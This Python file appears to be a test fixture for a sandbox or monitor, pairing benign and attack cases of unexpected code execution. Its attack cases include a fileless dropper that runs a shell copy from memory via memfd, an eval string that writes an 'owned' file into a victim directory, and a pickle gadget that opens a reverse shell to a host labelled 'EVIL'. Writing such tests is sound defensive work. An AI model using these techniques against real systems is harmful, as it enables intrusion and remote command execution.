"""Unexpected code execution: what the model wrote, or what it was sent, is run."""

import os
import pickle
import shutil
import socket
import subprocess

from door import address, run

SCRIPT = "echo dropped-$((6*7))"


def by_memory():
    file = os.memfd_create("x")
    with open("/bin/sh", "rb") as program:
        os.write(file, program.read())
    return subprocess.check_output([f"/proc/{os.getpid()}/fd/{file}", "-c", SCRIPT], text=True)


def by_file():
    path = f"/tmp/x-{os.environ['TOKEN']}"
    shutil.copy("/bin/sh", path)
    os.chmod(path, 0o755)
    try:
        return subprocess.check_output([path, "-c", SCRIPT], text=True)
    finally:
        os.remove(path)


def drop():
    """Runs another program: the shell, a copy of it, and one that is in memory only."""
    for way in (lambda: subprocess.check_output(["/bin/sh", "-c", SCRIPT], text=True), by_file, by_memory):
        try:
            print(way())
        except OSError as error:
            print(type(error).__name__)


def generated():
    names = {}
    exec("def answer():\n    return 6 * 7\n", names)
    print(f"made-{names['answer']()}")


def evaluate(text):
    print("value", eval(text))


class Shell:
    """Unpickled, it connects and does what it is told from there."""

    def __reduce__(self):
        return shell, ()


def shell():
    with socket.create_connection(address("EVIL"), 5) as sock:
        sock.settimeout(5)
        command = sock.recv(200).decode()
        sock.sendall(subprocess.check_output(["sh", "-c", command]))


def load(thing):
    print("loaded", pickle.loads(pickle.dumps(thing)))


OWNED = "open(os.environ['VICTIM'] + '/owned', 'w').write('owned')"

run(
    {
        "dropper attack": drop,
        "dropper benign": generated,
        "expression attack": lambda: evaluate(OWNED),
        "expression benign": lambda: evaluate("6 * 7"),
        "pickle-shell attack": lambda: load(Shell()),
        "pickle-shell benign": lambda: load({"rows": 7}),
    }
)
